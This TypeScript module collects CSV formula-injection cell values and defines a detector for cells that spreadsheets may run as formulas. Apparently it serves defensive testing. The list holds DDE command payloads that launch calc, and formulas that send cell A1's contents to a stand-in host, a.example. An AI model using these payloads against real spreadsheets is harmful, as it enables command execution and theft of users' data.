/**
 * Cell texts that spreadsheets run as formulas, with harmless commands.
 * From https://owasp.org/www-community/attacks/CSV_Injection, the ASVS (1.2.10) and PayloadsAllTheThings
 * (https://github.com/swisskyrepo/PayloadsAllTheThings, MIT).
 */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=1+1";=1+2',
  '=1+1\'" ;,=1+1',
  '=cmd|"/C calc"!A0',
  "=cmd|' /C calc'!'A1'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=         cmd|"/c calc"!A',
  '=AB+CD-EF&"x"/12&cmd|"/c calc"!A',
  '=rundll32|"URL.dll,OpenURL calc"!A',
  '=HYPERLINK("http://a.example?x="&A1,"Open")',
  '=WEBSERVICE("http://a.example/"&A1)',
  '=IMPORTXML("http://a.example","//a")',
  '=IMPORTRANGE("http://a.example","A1:B2")',
  '=IMPORTDATA("http://a.example")',
  '=IMAGE("http://a.example/x.png")',
  '=INFO("directory")',
];
/** Full-width characters that some spreadsheets treat as the four formula characters. */
const FULL_WIDTH = ['\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(1)'];
/** Characters that some spreadsheets drop or hide before a formula. */
const BEFORE = ['\t', '\r', '\n', '\0', '\u0001', '\u001F', '\u00A0', '\u200B', '\uFEFF', ' ', "'", '"', ',', ';'];

export const HOSTILE_CELLS: readonly string[] = [
  ...FORMULAS,
  ...FULL_WIDTH,
  ...BEFORE.map((sign) => `${sign}=1+1`),
  'a\n=1+1',
  'a\r\n=1+1,=1+1',
];

/** Returns whether a spreadsheet may run this CSV cell on opening; numbers are safe. */
export const runsAsFormula = (cell: string): boolean =>
  /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
